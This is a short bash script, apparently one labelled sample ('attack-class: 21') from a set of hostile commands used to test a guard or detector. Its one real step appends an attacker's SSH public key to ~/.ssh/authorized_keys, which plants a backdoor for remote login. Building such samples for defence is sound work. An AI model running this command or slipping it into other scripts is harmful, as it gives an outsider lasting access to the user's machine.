#!/usr/bin/env bash
# attack-class: 21
# title: >> ~/.ssh/authorized_keys
# why: plants an attacker key

mkdir -p ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil' >> ~/.ssh/authorized_keys
